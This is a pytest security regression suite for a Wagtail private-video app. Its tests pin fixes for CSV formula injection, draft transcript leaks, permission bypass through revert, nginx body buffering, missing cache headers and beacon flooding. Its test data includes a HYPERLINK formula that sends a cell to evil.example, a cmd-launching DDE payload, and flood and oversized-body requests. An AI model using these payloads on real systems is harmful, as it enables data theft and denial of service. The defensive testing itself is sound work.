"""Hostile review 8: watch analytics, text tracks, the admin's exports, drafts
rendered in the admin, the upload gate, the player's page.

Most tests here failed when written (at e7bee24): each shows one defect,
its docstring says how it was. The rest (the usage view, a beacon naming
someone else, reverting with the right permissions, granting by username)
pin behaviour that held or came with a fix."""

import csv
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from wagtail.models import Collection

from media_access import published
from media_access.models import PlaybackLogEntry, ViewerGrant, Viewing
from private_video.models import Video
from private_video.tracks import Caption
from tests.helpers import collection_group, make_user, make_video, make_video_page

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class World:
    def __init__(self, sample_video):
        published.forget()
        root = Collection.get_first_root_node()
        self.a = root.add_child(name="Team A")
        self.b = root.add_child(name="Hidden B")
        self.group = collection_group("A editors", self.a, "add_video", "change_video", "choose_video")
        self.editor = make_user("editor-a", groups=[self.group])
        self.boss = make_user("boss", superuser=True)
        self.video_a = make_video(sample_video, title="Alpha", collection=self.a, user=self.boss)
        self.video_b = make_video(sample_video, title="Bravo secret", collection=self.b, user=self.boss)


@pytest.fixture
def world(sample_video):
    return World(sample_video)


def signed_in(user, **kwargs):
    client = Client(raise_request_exception=False, **kwargs)
    client.force_login(user)
    return client


def csv_rows(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def formula_cells(rows):
    return [cell for row in rows[1:] for cell in row if cell[:1] in FORMULA_STARTS]


# ---- spreadsheet exports --------------------------------------------------------------


def test_video_listing_csv_export_does_not_start_a_formula_from_a_title_or_file_name(world):
    """An editor of collection A names a video (or an uploader names the file)
    "=HYPERLINK(...)": the listing's CSV export (Wagtail's SpreadsheetExportMixin,
    which guards XLSX but not CSV) writes it as it is, and a spreadsheet runs it
    for whoever exports the library (the analytics CSV guards the same cells)."""
    Video.objects.filter(pk=world.video_a.pk).update(
        title='=HYPERLINK("https://evil.example/?"&A1,"open")', original_filename="@SUM(1+1)*cmd.mp4"
    )
    response = signed_in(world.boss).get(reverse("private_video:index"), {"export": "csv"})
    assert response.status_code == 200
    rows = csv_rows(response)
    assert any("HYPERLINK" in cell for row in rows for cell in row)  # the row is there
    assert formula_cells(rows) == []


def test_playback_report_csv_export_does_not_start_a_formula_from_page_or_video_titles(world, sample_video):
    """Reports → Video playback → CSV: the page title (any page editor) and the
    video title (any collection editor) reach the compliance officer's
    spreadsheet as formulas."""
    PlaybackLogEntry.objects.create(
        session="s" * 16, username="viewer", page_id=1, page_title="-2+3+cmd|' /C calc'!A0",
        video_id=world.video_a.pk, video_title="=1+1", rendition="original", allowed=True, reason="",
    )
    response = signed_in(world.boss).get(reverse("media_access_reports:playback"), {"export": "csv"})
    assert response.status_code == 200
    rows = csv_rows(response)
    assert len(rows) == 2
    assert formula_cells(rows) == []


# ---- caption files --------------------------------------------------------------------


def test_a_cue_line_holding_two_hourless_timestamps_is_text_not_a_500(world):
    """The timing line is checked (review 6), but pysubs2 takes any line with
    two timestamps for a timing line, cue text included: ":00:01.000" in the
    text then reached its int("") and the upload was a 500. It is text."""
    client = signed_in(world.editor)
    response = client.post(
        reverse("private_video:caption_add", args=[world.video_a.pk]),
        {"file": SimpleUploadedFile(
            "x.vtt", b"WEBVTT\n\n00:00:01.000 --> 00:00:02.000\nat :00:01.000 and :00:02.000\n", "text/vtt"),
         "language": "en", "kind": "subtitles", "label": "English"},
    )
    assert response.status_code == 302, response.status_code
    assert Caption.objects.get().text == "at :00:01.000 and :00:02.000"


# ---- download grants through the admin API -----------------------------------------------


def test_admin_api_revert_cannot_bring_back_a_download_grant(world):
    """A page editor (add/change/publish on the site, no video rights) may not
    make or widen a download grant: the page form refuses it (page_checks).
    The admin API's revert checks only the videos of the old revision, not its
    grants: an admin's old download grant for the editor, since narrowed to
    viewing, comes back through revert_to_page_revision + publish, and the
    editor downloads the original of a video they may not even choose."""
    from django.contrib.auth.models import Group, Permission
    from wagtail.models import GroupPagePermission

    from cms.models import VideoPage
    from tests.helpers import home_page

    home = home_page()
    page_editors = Group.objects.create(name="Page editors")
    page_editors.permissions.add(Permission.objects.get(codename="access_admin"))
    for permission_type in ("add", "change", "publish"):
        GroupPagePermission.objects.create(
            group=page_editors, page=home, permission=Permission.objects.get(codename=f"{permission_type}_page"))
    page_editor = make_user("page-editor", groups=[page_editors])

    page = make_video_page(world.video_b, title="Launch")
    # The admin grants the editor downloads for a while, then narrows it to viewing.
    page = VideoPage.objects.get(pk=page.pk)
    page.viewer_grants.add(ViewerGrant(user=page_editor, can_download=True))
    old = page.save_revision(user=world.boss)
    old.publish()
    page = VideoPage.objects.get(pk=page.pk)
    page.viewer_grants = [ViewerGrant(user=page_editor, can_download=False)]
    page.save_revision(user=world.boss).publish()
    assert list(ViewerGrant.objects.values_list("can_download", flat=True)) == [False]

    client = signed_in(page_editor)
    download = reverse("media_access:download", args=[page.pk, world.video_b.pk, "original"])
    assert client.get(download).status_code == 403

    reverted = client.post(f"/admin/api/main/pages/{page.pk}/action/revert_to_page_revision/",
                           json.dumps({"revision_id": old.pk}), content_type="application/json")
    published_now = client.post(f"/admin/api/main/pages/{page.pk}/action/publish/", "{}",
                                content_type="application/json")
    # The revert is refused, as the page form refuses the same grant.
    assert reverted.status_code == 403 and "allow downloads" in reverted.content.decode(), reverted.content
    assert published_now.status_code == 200
    # Before the fix: [True], and the download answered 200 with the original's X-Accel-Redirect.
    assert list(ViewerGrant.objects.values_list("can_download", flat=True)) == [False]
    assert client.get(download).status_code == 403


def test_an_editor_who_may_change_the_video_may_revert_to_a_download_grant(world):
    """The revert check refuses only what the page form would: someone with
    change permission on every video of the page may bring the grant back."""
    from cms.models import VideoPage

    viewer = make_user("viewer")
    page = make_video_page(world.video_a, title="Launch")
    page = VideoPage.objects.get(pk=page.pk)
    page.viewer_grants.add(ViewerGrant(user=viewer, can_download=True))
    old = page.save_revision(user=world.boss)
    old.publish()
    page = VideoPage.objects.get(pk=page.pk)
    page.viewer_grants = [ViewerGrant(user=viewer, can_download=False)]
    page.save_revision(user=world.boss).publish()

    from django.contrib.auth.models import Permission
    from wagtail.models import GroupPagePermission

    from tests.helpers import home_page

    world.group.permissions.add(Permission.objects.get(codename="access_admin"))
    for permission_type in ("add", "change", "publish"):
        GroupPagePermission.objects.create(group=world.group, page=home_page(),
                                           permission=Permission.objects.get(codename=f"{permission_type}_page"))
    client = signed_in(world.editor)  # a page editor with change on collection A (video A's)
    reverted = client.post(f"/admin/api/main/pages/{page.pk}/action/revert_to_page_revision/",
                           json.dumps({"revision_id": old.pk}), content_type="application/json")
    assert reverted.status_code == 200, reverted.content
    client.post(f"/admin/api/main/pages/{page.pk}/action/publish/", "{}", content_type="application/json")
    assert list(ViewerGrant.objects.values_list("can_download", flat=True)) == [True]


# ---- drafts and old revisions rendered in the admin ----------------------------------------


def _page_editor():
    from django.contrib.auth.models import Group, Permission
    from wagtail.models import GroupPagePermission

    from tests.helpers import home_page

    home = home_page()
    page_editors = Group.objects.create(name="Page editors")
    page_editors.permissions.add(Permission.objects.get(codename="access_admin"))
    for permission_type in ("add", "change", "publish"):
        GroupPagePermission.objects.create(
            group=page_editors, page=home, permission=Permission.objects.get(codename=f"{permission_type}_page"))
    return make_user("page-editor", groups=[page_editors])


SECRET_LINE = "The merger closes on Friday"


@pytest.mark.parametrize("how", ["view_draft", "old revision"])
def test_a_drafts_or_old_revisions_video_shows_no_title_or_transcript_to_an_editor_who_may_not_choose_it(
        world, how):
    """The media endpoints refuse a draft's (or an old revision's) video to a
    page editor who may not choose it. But the admin renders that content
    with the page's own template, and {% video_player %} / {% video_transcript %}
    ask can_watch with the *rendered* (draft or revision) object: the video is
    on it, its grants are the revision's, the editor edits the page, so the
    answer is "allowed" and the page shows the hidden collection's video
    title and its whole transcript (every caption cue)."""
    from private_video.captions import import_caption

    from cms.models import VideoPage

    import_caption(world.video_b, f"WEBVTT\n\n00:00:01.000 --> 00:00:02.000\n{SECRET_LINE}\n".encode(), "x.vtt",
                   language="en", kind="subtitles", label="English", is_default=True)
    page_editor = _page_editor()
    page = make_video_page(world.video_a, title="Launch")
    page = VideoPage.objects.get(pk=page.pk)
    page.video = world.video_b  # an admin's draft (or, once replaced, an old revision)
    revision = page.save_revision(user=world.boss)
    if how == "view_draft":
        url = reverse("wagtailadmin_pages:view_draft", args=[page.pk])
    else:
        page = VideoPage.objects.get(pk=page.pk)
        page.video = world.video_a
        page.save_revision(user=world.boss).publish()
        url = reverse("wagtailadmin_pages:revisions_view", args=[page.pk, revision.pk])
    client = signed_in(page_editor)
    # The media itself is refused (as tests/test_page_editor_privacy.py pins).
    assert client.get(reverse("media_access:playback", args=[page.pk, world.video_b.pk])).status_code == 404
    response = client.get(url)
    assert response.status_code == 200
    body = response.content.decode()
    assert SECRET_LINE not in body and "Bravo secret" not in body


def test_a_workflow_reviewer_without_page_or_video_rights_reads_a_drafts_transcript(world):
    """The same through moderation: a reviewer of a GroupApprovalTask (admin
    access, no page or video permissions) previews the revision under review;
    can_watch sees the video on the in-memory revision of a live page with no
    grants and answers "open", so the hidden collection's title and
    transcript are shown to the reviewer."""
    from django.contrib.auth.models import Group, Permission
    from wagtail.models import GroupApprovalTask, Workflow, WorkflowPage, WorkflowTask

    from cms.models import VideoPage
    from private_video.captions import import_caption

    import_caption(world.video_b, f"WEBVTT\n\n00:00:01.000 --> 00:00:02.000\n{SECRET_LINE}\n".encode(), "x.vtt",
                   language="en", kind="subtitles", label="English", is_default=True)
    reviewers = Group.objects.create(name="Reviewers")
    reviewers.permissions.add(Permission.objects.get(codename="access_admin"))
    reviewer = make_user("reviewer", groups=[reviewers])
    page = make_video_page(world.video_a, title="Launch")
    workflow = Workflow.objects.create(name="Review")
    task = GroupApprovalTask.objects.create(name="Approve")
    task.groups.add(reviewers)
    WorkflowTask.objects.create(workflow=workflow, task=task, sort_order=0)
    WorkflowPage.objects.create(workflow=workflow, page=page)
    page = VideoPage.objects.get(pk=page.pk)
    page.video = world.video_b
    page.save_revision(user=world.boss)
    workflow.start(page, world.boss)

    client = signed_in(reviewer)
    assert client.get(reverse("media_access:playback", args=[page.pk, world.video_b.pk])).status_code == 404
    response = client.get(reverse("wagtailadmin_pages:workflow_preview", args=[page.pk, task.pk]))
    assert response.status_code == 200, response.status_code
    body = response.content.decode()
    assert SECRET_LINE not in body and "Bravo secret" not in body


def test_the_viewers_tab_does_not_list_every_account_to_a_page_editor(world):
    """The Viewers tab's grant rows pick the user with a plain <select> of
    every account on the site: any page editor (no user-management rights)
    reads the whole user directory in the page's edit form (and on a site
    with 50,000 accounts every edit form carries 50,000 <option>s per row
    and in the empty-form template). A user chooser limited to what the
    editor may see, or a username field checked server-side, would not."""
    page_editor = _page_editor()
    make_user("ceo-private-account")
    page = make_video_page(world.video_a, title="Launch")
    response = signed_in(page_editor).get(reverse("wagtailadmin_pages:edit", args=[page.pk]))
    assert response.status_code == 200
    assert b">ceo-private-account</option>" not in response.content


def test_a_page_editor_grants_a_viewer_by_username(world):
    """The Viewers tab's user field takes a username: the grant names that
    user; an unknown name is a form error and saves nothing; the edit form
    shows a stored grant's username back."""
    from wagtail.test.utils.form_data import inline_formset, nested_form_data, rich_text, streamfield

    page_editor = _page_editor()
    viewer = make_user("trainee-7")
    page = make_video_page(world.video_a, title="Launch")
    client = signed_in(page_editor)
    url = reverse("wagtailadmin_pages:edit", args=[page.pk])

    def post(username):
        data = nested_form_data({
            "title": page.title, "slug": page.slug, "video": world.video_a.pk, "intro": rich_text(""),
            "body": streamfield([]), "comments": inline_formset([]),
            "viewer_grants": inline_formset([{"user": username, "group": "", "expires_at": ""}]),
        })
        data["action-publish"] = "action-publish"
        return client.post(url, data)

    refused = post("nobody-of-that-name")
    assert refused.status_code == 200 and "valid choice" in refused.content.decode()
    assert not ViewerGrant.objects.exists()
    assert post(" trainee-7 ").status_code == 302
    assert list(ViewerGrant.objects.values_list("user_id", flat=True)) == [viewer.pk]
    shown = client.get(url).content.decode()
    assert 'value="trainee-7"' in shown and ">trainee-7</option>" not in shown


# ---- nginx: the upload gate ---------------------------------------------------------------


def _announce(stack, method, path, length, timeout=3.0):
    """Send the headers of a ``length``-byte request body and none of it:
    the answer, or None when nginx sits waiting to read (and buffer) the body."""
    import socket

    with socket.create_connection(("127.0.0.1", stack.port), timeout=timeout) as sock:
        sock.sendall((
            f"{method} {path} HTTP/1.1\r\nHost: 127.0.0.1:{stack.port}\r\n"
            "Content-Type: multipart/form-data; boundary=x\r\n"
            f"Content-Length: {length}\r\n\r\n"
        ).encode())
        try:
            return sock.recv(65536)
        except (TimeoutError, socket.timeout):
            return None


@pytest.mark.integration
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
@pytest.mark.parametrize("method", ["GET", "OPTIONS", "HEAD"])
def test_an_anonymous_body_on_a_safe_method_is_not_read_by_nginx(stack, method):
    """The upload gate lets GET, HEAD and OPTIONS through whoever asks ("only a
    body-carrying method needs the check"), but any method carries a body:
    nginx then reads and buffers up to the video upload limit (8 GiB) for an
    anonymous visitor, as the gate was built to stop for POST."""
    answer = _announce(stack, method, "/admin/videos/new/", 64 << 20)
    assert answer is not None, f"nginx waited for an anonymous {method}'s 64 MiB body"


@pytest.mark.integration
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_nginx_takes_a_40_mib_anonymous_get_body_on_an_upload_url(stack):
    """The same, sent whole: 40 MiB (over the 32 MiB the rest of /admin/ takes)
    in an anonymous GET to the upload URL is read to the end and handed to
    Django, which answers its sign-in redirect. A POST of the same is a 403
    from the headers."""
    import socket

    length = 40 << 20
    with socket.create_connection(("127.0.0.1", stack.port), timeout=60) as sock:
        sock.sendall((f"GET /admin/videos/new/ HTTP/1.1\r\nHost: 127.0.0.1:{stack.port}\r\n"
                      f"Content-Length: {length}\r\nConnection: close\r\n\r\n").encode())
        chunk = b"x" * (1 << 20)
        try:
            for _ in range(length >> 20):
                sock.sendall(chunk)
        except OSError:
            pass  # refused early: what should happen
        head = sock.recv(65536).split(b"\r\n", 1)[0]
    assert not head.startswith((b"HTTP/1.1 302", b"HTTP/1.1 200")), head


# ---- the page's own HTML -------------------------------------------------------------------


def test_a_page_rendered_with_a_private_player_is_not_left_for_a_shared_cache(sample_video):
    """DESIGN rule 5: private responses say so (Cache-Control: private, no-store).
    The page HTML a granted viewer gets holds the private video's title, its
    watch URLs and its transcript, but goes out with only "Vary: Cookie" (no
    Cache-Control): a shared cache or CDN that ignores Vary (many do, for
    HTML they are told to cache) hands it to the next visitor."""
    page, video, viewer = _viewer_world(sample_video)
    response = signed_in(viewer).get(page.url)
    assert response.status_code == 200 and b"Compliance training" in response.content
    assert reverse("media_access:playback", args=[page.pk, video.pk]).encode() in response.content
    cache_control = response.get("Cache-Control", "")
    assert "private" in cache_control or "no-store" in cache_control, dict(response.headers)


# ---- the beacon -------------------------------------------------------------------------


def _viewer_world(sample_video):
    from django.contrib.auth.models import Group

    published.forget()
    video = make_video(sample_video, title="Compliance training")
    page = make_video_page(video, title="Training page")
    members = Group.objects.create(name="Members")
    ViewerGrant.objects.create(page=page, group=members)
    viewer = make_user("viewer", groups=[members])
    return page, video, viewer


def _beacon_client(viewer, page, video):
    client = Client(enforce_csrf_checks=True, raise_request_exception=False)
    client.force_login(viewer)
    response = client.get(reverse("media_access:playback", args=[page.pk, video.pk]))
    assert response.status_code == 200
    return client, response.json()["analytics"]


@pytest.mark.parametrize("where", ["duration", "range end"])
def test_a_beacon_with_a_huge_integer_is_a_400_not_a_500(sample_video, where):
    """JSON integers have no size limit: 10**400 passes the isinstance check
    and math.isfinite() raises OverflowError (a 500) in parse_beacon's _number."""
    page, video, viewer = _viewer_world(sample_video)
    client, info = _beacon_client(viewer, page, video)
    big = "1" + "0" * 400
    duration, end = (big, "1") if where == "duration" else (repr(video.duration), big)
    body = '{"session": "abcdefgh12", "ranges": [[0, %s]], "duration": %s, "csrf": "%s"}' % (
        end, duration, info["csrf_token"])
    response = client.post(info["url"], body, content_type="text/plain")
    assert response.status_code == 400, response.status_code
    assert not Viewing.objects.exists()


def test_one_viewer_cannot_store_unbounded_viewings_of_a_video(sample_video):
    """Every beacon with a new ``session`` string (any 8-64 of [A-Za-z0-9_-],
    chosen by the client) is a new Viewing row: one granted viewer (or any
    anonymous visitor of an open page) stores as many as they can post. The
    report loads every row into Python (analytics.video_stats): 5,000 rows of
    a 1-hour video take ~2.3 s here, so ~100,000 posts (minutes of work) push
    the per-video report and its CSV past a gunicorn timeout, and the
    viewer's "viewings" count is whatever they like. The threshold here (50
    sessions a minute for one viewer) is a suggestion, not a documented limit."""
    page, video, viewer = _viewer_world(sample_video)
    client, info = _beacon_client(viewer, page, video)
    for i in range(300):
        body = json.dumps({"session": f"flood{i:08d}", "ranges": [[0, 1]], "duration": video.duration,
                           "csrf": info["csrf_token"]})
        client.post(info["url"], body, content_type="text/plain")
    assert Viewing.objects.filter(video=video, user=viewer).count() <= 50


def test_a_video_longer_than_ten_hours_can_be_counted_at_all():
    """MAX_DURATION (10 h) caps the beacon's duration, and the duration must be
    the video's own: for an 11-hour recording every beacon is a 400 ("The
    duration is out of range."), so its report says nobody ever watched it.
    (Counting the first 10 h, or a coarser bitmap, would keep the report true.)"""
    from media_access.views.analytics import BadBeacon, parse_beacon

    eleven_hours = 11 * 3600.0
    try:
        parse_beacon({"session": "abcdefgh12", "ranges": [[0, 60]], "duration": eleven_hours}, eleven_hours)
    except BadBeacon as error:
        pytest.fail(f"refused: {error}")


# ---- the playback log ----------------------------------------------------------------------


def test_two_anonymous_viewers_behind_nginx_are_two_playback_sessions(sample_video):
    """An anonymous session is REMOTE_ADDR + User-Agent (access_log.session_id).
    Behind the bundled nginx REMOTE_ADDR is nginx's own address for every
    visitor (nothing reads X-Real-IP), so every anonymous viewer with the same
    browser build is one "session": the second, third... viewer of a video
    within MEDIA_ACCESS_LOG_WINDOW is never logged. Each browser has its own
    viewer cookie (MEDIA_ACCESS_VIEWER_COOKIE) to tell them apart by."""
    from media_access.access_log import forget_recent

    published.forget()
    forget_recent()
    video = make_video(sample_video, title="Open clip")
    page = make_video_page(video, title="Open page")
    url = reverse("media_access:watch", args=[page.pk, video.pk, "original"])
    agent = "Mozilla/5.0 (X11; Linux x86_64) Chrome/131.0"
    for _visitor in range(2):
        client = Client(REMOTE_ADDR="127.0.0.1", HTTP_USER_AGENT=agent)
        assert client.get(reverse("media_access:playback", args=[page.pk, video.pk])).status_code == 200
        assert client.get(url).status_code == 200
    assert PlaybackLogEntry.objects.filter(video=video, allowed=True).count() == 2


# ---- held (passing): pinned because they are easy to break ---------------------------------


def test_usage_of_a_video_names_no_page_the_editor_may_not_edit(world):
    """Passes: the usage view lists a page the collection editor has no page
    rights on as "(Private page)", never by its title."""
    make_video_page(world.video_a, title="Board minutes page")
    response = signed_in(world.editor).get(reverse("private_video:usage", args=[world.video_a.pk]))
    assert response.status_code == 200
    body = response.content.decode()
    assert "Board minutes page" not in body and "(Private page)" in body


def test_a_beacon_cannot_count_as_someone_else(sample_video):
    """Passes: extra fields naming another user or viewer are ignored; the row
    is the requester's (user and HMAC viewer id), on the page and video of the URL."""
    from media_access import analytics

    page, video, viewer = _viewer_world(sample_video)
    victim = make_user("victim")
    client, info = _beacon_client(viewer, page, video)
    body = json.dumps({"session": "abcdefgh12", "ranges": [[0, 4]], "duration": video.duration,
                       "csrf": info["csrf_token"], "user": victim.pk, "user_id": victim.pk,
                       "viewer": "f" * 64, "page": 1, "video": 1})
    assert client.post(info["url"], body, content_type="text/plain").status_code == 204
    row = Viewing.objects.get()
    assert row.user_id == viewer.pk and row.video_id == video.pk and row.page_id == page.pk
    assert row.viewer == analytics.salted_hmac(analytics.VIEWER_SALT, f"user:{viewer.pk}",
                                               algorithm="sha256").hexdigest()


def test_a_video_the_chooser_hook_leaves_out_cannot_be_chosen_by_id(world, sample_video):
    """construct_video_chooser_queryset narrows what the chooser lists and
    finds (README: "a hook can narrow it further"), but the chosen view
    (VideoChosenView.get_object) and the page form's choice check ask only the
    "choose" permission: an editor posts the id of a video the site's hook
    hides and gets it (title, edit URL) and onto a page. Low: the same holds for
    Wagtail's own document chooser hook; a site relying on the hook for
    anything but tidiness is not protected."""
    from wagtail import hooks

    hidden = make_video(sample_video, title="Alpha embargoed", collection=world.a, user=world.boss)

    def not_embargoed(queryset, request):
        return queryset.exclude(title__contains="embargoed")

    client = signed_in(world.editor)
    with hooks.register_temporarily("construct_video_chooser_queryset", not_embargoed):
        listing = client.get(reverse("private_video_chooser:choose")).json()["html"]
        assert "Alpha embargoed" not in listing
        chosen = client.get(reverse("private_video_chooser:chosen", args=[hidden.pk]))
    assert chosen.status_code == 404, chosen.content[:300]
